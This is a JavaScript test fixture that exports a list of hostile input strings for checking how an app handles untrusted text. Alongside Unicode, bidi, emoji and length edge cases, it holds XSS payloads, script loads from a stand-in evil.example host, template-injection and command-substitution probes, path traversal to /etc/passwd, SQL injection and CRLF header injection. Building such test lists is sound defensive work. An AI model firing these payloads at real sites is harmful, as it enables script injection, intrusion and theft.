// A hundred texts that try to be more than text.

const FLAG = "window.pwned=1";

const SCRIPTS = [
    `<script>${FLAG}</script>`,
    `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
    `<img src=x onerror=${FLAG}>`,
    `<svg onload=${FLAG}>`,
    `<svg><script>${FLAG}</script></svg>`,
    `<body onload=${FLAG}>`,
    `<iframe srcdoc="<script>parent.${FLAG}</script>"></iframe>`,
    `<input autofocus onfocus=${FLAG}>`,
    `<details open ontoggle=${FLAG}>`,
    `<video><source onerror=${FLAG}></video>`,
    `<math><mtext></mtext><script>${FLAG}</script></math>`,
    `<object data="javascript:${FLAG}"></object>`,
    `<embed src="javascript:${FLAG}">`,
    `<base href="//evil.example/">`,
    `<meta http-equiv=refresh content="0;url=//evil.example/">`,
    `<link rel=stylesheet href="//evil.example/x.css">`,
    `<template><script>${FLAG}</script></template>`,
    `<!--><script>${FLAG}</script>-->`,
    `<noscript><p title="</noscript><script>${FLAG}</script>">`,
    `<form action="javascript:${FLAG}"><button>x</button></form>`,
];
const ATTRIBUTES = [
    `" onmouseover="${FLAG}`,
    `' onfocus='${FLAG}' autofocus='`,
    `"><script>${FLAG}</script>`,
    `'><img src=x onerror=${FLAG}>`,
    `\`><svg onload=${FLAG}>`,
    `</title><script>${FLAG}</script>`,
    `</textarea><script>${FLAG}</script>`,
    `</script><script>${FLAG}</script>`,
    `</pre></code><script>${FLAG}</script>`,
    `&lt;script&gt;${FLAG}&lt;/script&gt; &amp; &#60;b&#62;`,
];
const ADDRESSES = [
    `javascript:${FLAG}`,
    `JaVaScRiPt:${FLAG}//https://example.com`,
    ` javascript:${FLAG}`,
    `data:text/html,<script>${FLAG}</script>`,
    `vbscript:${FLAG}`,
    `//evil.example/path`,
    `https://user:pass@evil.example/`,
    `blob:https://evil.example/0`,
    `file:///etc/passwd`,
    `http://[::1]:0/%00%0d%0aSet-Cookie:a=b`,
];
const STYLES = [
    `</style><style>*{display:none}</style>`,
    `<div style="position:fixed;inset:0;background:red">`,
    `color:red;background:url(javascript:${FLAG})`,
    `expression(${FLAG})`,
    `@import url(//evil.example/x.css);`,
    `}*{visibility:hidden}`,
    `var(--yes)`,
    `\\3c script\\3e ${FLAG}`,
];
const TEMPLATES = [
    `{{7*7}}`,
    `{{constructor.constructor('${FLAG}')()}}`,
    `\${7*7}`,
    `\`\${alert(1)}\``,
    `<%= 7*7 %>`,
    `#{7*7}`,
    `{% include '/etc/passwd' %}`,
    `[[${"$"}{7*7}]]`,
    `$(id)`,
    `%s%n%x {0} {}`,
    `__proto__`,
    `constructor`,
];
const DIRECTIONS = [
    "שלום עולם",
    "مرحبا بالعالم",
    "\u202eevil\u202c txt.exe",
    "\u2066left\u2069\u2067right\u2069",
    "abc\u200fאבג\u200e123",
    "\u061cعربي",
    "a\u202eb\u202dc\u202ad\u202be",
    "שלום <b>bold</b> (x)",
    "١٢٣٤٥٦٧٨٩٠",
    "فارسی‌با‌نیم‌فاصله",
];
const PICTURES = [
    "💥".repeat(50),
    "👩‍👩‍👧‍👦👨🏿‍🚒🏳️‍🌈",
    "🇺🇳🇪🇺🇳🇵",
    "1️⃣2️⃣#️⃣",
    "\u{1f600}\ufe0e\u{1f600}\ufe0f",
    "🅰️🅱️🆎",
    "𝕳𝖔𝖘𝖙𝖎𝖑𝖊 𝓽𝓮𝔁𝓽",
    "𠜎𠜱𠝹𠱓",
];
const COMBINED = [
    `Z${"\u0351\u036b\u0343\u036a\u0302".repeat(12)}a${"\u0317\u032d\u031e".repeat(20)}lgo`,
    "e\u0301e\u0300\u0301\u0302",
    "\u0300\u0301\u0302 begins with marks",
    "ﷺ﷽".repeat(8),
    "ก็็็็็็็็็็็็็็็็็็็็",
    "क्ष्म्य्र्व".repeat(10),
];
const LONG = [
    "x".repeat(10_000),
    "long words and spaces ".repeat(455).trim(),
    "W".repeat(10_000),
    "—".repeat(10_000),
    "/a".repeat(5_000),
    "漢字".repeat(5_000),
];
const BLANKS = [
    "no\u00a0break\u00a0".repeat(20).trim(),
    "zero\u200bwidth\u200bspaces\u2060and\ufeffjoiners",
    "soft\u00adhy\u00adphens",
    "line\u2028paragraph\u2029ends",
    "tab\tand\nline\r\nbreak",
    "\u3164\u115f filler",
];
const OTHERS = ["../../../../etc/passwd", "'; DROP TABLE participant; --", "null", "%00%0a%2e%2e%2f"];

export const HOSTILE = [
    ...SCRIPTS,
    ...ATTRIBUTES,
    ...ADDRESSES,
    ...STYLES,
    ...TEMPLATES,
    ...DIRECTIONS,
    ...PICTURES,
    ...COMBINED,
    ...LONG,
    ...BLANKS,
    ...OTHERS,
];
